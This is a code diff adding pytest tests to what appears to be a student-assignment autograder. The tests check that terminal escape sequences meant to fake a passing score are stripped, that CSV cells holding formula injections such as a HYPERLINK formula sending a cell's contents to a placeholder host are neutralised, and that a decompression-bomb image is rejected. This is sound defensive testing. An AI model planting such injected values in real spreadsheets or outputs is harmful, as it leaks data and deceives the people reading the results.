@@ -118,3 +118,41 @@ def test_a_uid_of_its_own_per_submission_when_grading_as_root(tmp_path: Path) ->
         pytest.skip("as a normal user the sandbox maps uid 65534 onto the user")
     a, b = sandbox.Sandbox(tmp_path, slot=0), sandbox.Sandbox(tmp_path, slot=1)
     assert a.uid != b.uid and min(a.uid, b.uid) >= sandbox.SANDBOX_UID_BASE
+
+
+def test_text_from_a_submission_is_cleaned_and_cut() -> None:
+    from autograder.grade import MAX_TEXT, clean
+
+    hostile = "\x1b[1A\x1b[2K\r  PASS  everything 10/10" + "x" * 10_000
+    line = clean(hostile)
+    assert "\x1b" not in line and "\r" not in line and len(line) == MAX_TEXT
+
+
+def test_grades_csv_cells_cannot_be_formulas(tmp_path: Path) -> None:
+    from autograder import classreport
+
+    record = {"student_id": "=HYPERLINK(\"http://x/?\"&A2)", "lab": "01_tracking", "path": "a.ipynb",
+              "score": 0.0, "max_score": 10.0, "checks": [], "errors": ["@SUM(1)"], "restored": [],
+              "seconds": 1.0}
+    classreport.write_outputs([record], tmp_path, None)
+    text = (tmp_path / "grades.csv").read_text()
+    assert "'=HYPERLINK" in text and "'@SUM" in text
+    assert ",=" not in text and "\n=" not in text
+
+
+def test_a_figure_must_be_a_real_figure() -> None:
+    import io
+
+    from PIL import Image
+
+    def summary(img: Image.Image) -> dict:
+        buf = io.BytesIO()
+        img.save(buf, "PNG")
+        return checking.png_summary(buf.getvalue())
+
+    square = Image.new("RGB", (300, 300), "white")
+    square.paste((0, 0, 0), (0, 0, 60, 60))
+    assert not checking.is_plot(summary(square))
+    assert checking.png_summary(b"\x89PNG\r\n\x1a\n" + bytes(64)) == {"decodes": False}
+    bomb = Image.new("1", (5000, 5000))  # 25 M pixels, a few kB compressed
+    assert summary(bomb) == {"decodes": False}
